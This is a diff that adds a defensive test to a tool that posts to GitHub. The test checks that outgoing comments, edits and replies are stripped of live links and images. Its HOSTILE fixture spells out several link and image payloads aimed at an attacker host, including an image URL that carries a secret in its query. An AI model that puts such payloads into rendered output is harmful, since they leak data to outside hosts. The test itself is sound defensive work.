@@ -14,6 +14,8 @@ from __future__ import annotations
 from pathlib import Path
 from typing import Any
 
+from planner.ci.forges.base import TRACKING_MARKER
+from planner.ci.forges.github import GitHubForge
 from planner.ci.review.answers import REVIEW_REPLY_MARKER
 from planner.engine.markdown import rendered_links
 from planner.testing.scripted_server import reply_tool_calls
@@ -306,3 +308,43 @@ def test_a_task_a_later_run_finishes_is_answered_with_the_commit_of_its_change(
     final = replies(thread.comments)[-1]
     assert f"Changed in {written}: tests/test_largest.py checks largest()" in final
     assert thread.resolved
+
+
+HOSTILE = {
+    "image": "![x](https://evil.example/p.png?q=secret)",
+    "link": "[docs](https://evil.example/)",
+    "reference": "[docs][r]\n\n[r]: https://evil.example/r",
+    "autolink": "<https://evil.example/a>",
+    "bare": "https://evil.example/bare and www.evil.example",
+    "html image": '<img src="https://evil.example/i.png">',
+    "html link": '<a href="https://evil.example/h">h</a>',
+}
+
+
+def test_every_body_planner_posts_is_checked_for_links_and_images_at_the_forge(
+    fake_github: FakeGitHub,
+) -> None:
+    """Attack: text a caller forgot to make inert (a model's words in a new message, a test
+    name) holds every kind of link and image. Whatever planner posts through the adapter — a
+    comment, its edit, a review reply, a pull request's body — reaches the forge with none of
+    them live; planner's own markers and links to its own host stay."""
+    forge = GitHubForge(
+        repository=fake_github.repository,
+        token=fake_github.token,
+        api_url=fake_github.api_url,
+        server_url=fake_github.base_url,
+    )
+    fake_github.add_issue(1, "Anything")
+    own = f"[the run]({fake_github.base_url}/{fake_github.repository}/actions/runs/1)"
+    body = "\n\n".join([TRACKING_MARKER, own, *HOSTILE.values()])
+
+    made = forge.post_comment(1, body)
+    forge.edit_comment(1, made.id, body + "\n\nedited")
+
+    [posted] = [c.body for c in fake_github.comments_on(1)]
+    assert posted.startswith(TRACKING_MARKER) and "edited" in posted
+    assert not [link for link in rendered_links(posted) if "evil.example" in link]
+    for kind, text in HOSTILE.items():
+        checked = forge.outgoing(f"{own}\n\n{text}")
+        assert not [link for link in rendered_links(checked) if "evil.example" in link], kind
+    assert forge.outgoing(f"{TRACKING_MARKER}\n{own}") == f"{TRACKING_MARKER}\n{own}"
